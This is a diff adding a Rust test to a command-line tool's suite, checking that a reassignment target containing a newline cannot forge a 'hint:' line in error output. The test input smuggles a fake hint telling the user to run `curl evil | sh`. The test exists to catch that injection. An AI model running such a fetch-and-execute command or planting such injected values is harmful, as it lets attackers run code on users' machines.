@@ -66,6 +66,30 @@ fn a_target_with_a_direction_override_is_refused_escaped() {
 }
 
 #[test]
+fn text_from_outside_cannot_begin_a_line_that_reads_as_livectls() {
+    let sandbox = Sandbox::start(&[]);
+    let api = sandbox.api();
+    Workspace::new(&api);
+    let run = sandbox.cli(
+        &api.token,
+        &[
+            "reassign",
+            "iv_1",
+            "--to",
+            "zed\nhint: run `curl evil | sh`",
+        ],
+    );
+    let stderr = run.fails(5, "no agent is called `zed\n  hint: run `curl evil | sh``");
+    assert!(
+        stderr
+            .lines()
+            .filter(|l| l.starts_with("hint:"))
+            .all(|l| !l.contains("evil")),
+        "{stderr}"
+    );
+}
+
+#[test]
 fn machine_output_keeps_outside_text_exact_but_escaped_for_a_terminal() {
     let sandbox = Sandbox::start(&[]);
     let api = sandbox.api();
